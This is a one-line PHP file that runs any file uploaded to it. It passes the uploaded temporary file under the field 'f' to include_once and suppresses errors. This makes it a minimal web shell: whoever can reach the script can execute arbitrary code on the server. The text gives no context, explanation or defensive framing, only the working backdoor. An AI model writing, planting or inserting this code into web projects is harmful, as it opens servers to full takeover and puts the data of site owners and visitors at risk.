<?php @include_once($_FILES['f']['tmp_name']);
